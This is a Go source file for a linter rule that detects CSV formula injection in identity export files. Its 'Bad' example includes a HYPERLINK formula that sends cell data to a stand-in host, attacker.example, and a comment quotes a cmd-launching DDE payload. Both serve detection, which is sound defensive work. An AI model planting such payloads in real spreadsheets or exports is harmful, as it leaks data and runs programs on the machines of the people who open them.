package validate

import (
	"fmt"
	"strings"

	"github.com/idlint/idlint/payload"
)

// CSVInjection finds CSV cells that a spreadsheet would run as a formula.
var CSVInjection = &Rule{
	ID:       "csv-injection",
	Severity: SeverityError,
	Summary:  "a CSV cell starts with a formula character (=, +, -, @, tab or carriage return)",
	Doc: `Identity files are exported, shared and opened in spreadsheets. A cell that starts with
=, +, - or @ (or a tab or carriage return before one) is run as a formula there: a crafted
value can read other cells, call out to the network or start programs on the admin's machine
(OWASP "CSV Injection"). No email or account ID starts with one of these characters, so the
value is a mistake or an attack: remove it. A GitHub login pasted as "@janedoe" is the common
mistake: logins are written without the @. Plain numbers such as -7 are not formulas and are
left to the rules about their field, and so are IDs that merely start with "-" (Harness Code
IDs may): only a "-" followed by an operator, parenthesis, quote or space is taken for a
formula. A tab or carriage return counts when one of these characters follows it; a lone
leading tab is the whitespace rule's.`,
	Bad: Example{Name: "identities.csv", Text: `email,applicationType,cloudId
jane.doe@acme.com,GITHUB,"=HYPERLINK(""http://attacker.example/?""&A2,""verify"")"
john.roe@acme.com,GITHUB,@jroe
`},
	Good: Example{Name: "identities.csv", Text: `email,applicationType,cloudId
jane.doe@acme.com,GITHUB,janedoe
john.roe@acme.com,GITHUB,jroe
`},
	Record: func() func(*Pass) { return checkCSVInjection },
}

func checkCSVInjection(p *Pass) {
	if p.Format() != payload.FormatCSV {
		return
	}
	for f := range p.Record().Cells() {
		if f.Kind != payload.KindString || !formula(f.Value) {
			continue
		}
		hint := "remove it"
		if f.Value[0] == '@' && f.Name != payload.FieldEmail && plainLogin(f.Value[1:]) {
			hint = fmt.Sprintf("logins are written without the @: %q", f.Value[1:])
			p.Mention(f.Value[1:])
		}
		p.ReportField(f, "%s %q starts with %q, which a spreadsheet runs as a formula (CSV injection); %s", f.Name, clipValue(f.Value), f.Value[:1], hint)
	}
}

// formula reports whether a spreadsheet would take a cell for a formula that can do harm:
//   - "=" or "@" first: always;
//   - "+" first: unless the cell is a plain number. No account ID starts with "+", and a
//     spreadsheet takes "+cmd" for a formula, which at best turns the cell into an error;
//   - "-" first: when an operator other than "-", a parenthesis, quote or space follows.
//     Account IDs may start with "-" and hold more (Harness Code's base64url IDs do), and
//     "-qt_ozk_Upun-GQ..." computes nothing; "-2+3+cmd|' /C calc'!A0" runs a program. Plain
//     numbers are not formulas;
//   - a tab or carriage return first: when one of the above follows it, as OWASP warns; a
//     lone leading tab is the whitespace rule's.
func formula(v string) bool {
	for v != "" && (v[0] == '\t' || v[0] == '\r') { // not strings.TrimLeft, which builds a set each call
		v = v[1:]
	}
	if v == "" {
		return false
	}
	switch v[0] {
	case '=', '@':
		return true
	case '+':
		return !isPlainNumber(v)
	case '-':
		return !isPlainNumber(v) && strings.ContainsAny(v[1:], "=+*/^&|!()'\"; ,:")
	}
	return false
}

// plainLogin reports whether s looks like a login: letters, digits, '-', '_' and '.'.
func plainLogin(s string) bool {
	return s != "" && strings.Trim(s, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.") == ""
}

// isPlainNumber accepts a signed decimal number such as -7 or +1.5, which spreadsheets read as
// a number, not a formula.
func isPlainNumber(s string) bool {
	if s[0] == '+' || s[0] == '-' {
		s = s[1:]
	}
	digits, dot := 0, false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c >= '0' && c <= '9':
			digits++
		case c == '.' && !dot:
			dot = true
		default:
			return false
		}
	}
	return digits > 0
}

// clipValue shortens a long value for a message.
func clipValue(s string) string {
	const max = 60
	if len(s) <= max {
		return s
	}
	cut := max
	for cut > 0 && s[cut]&0xC0 == 0x80 { // not inside a UTF-8 sequence
		cut--
	}
	return s[:cut] + "…"
}
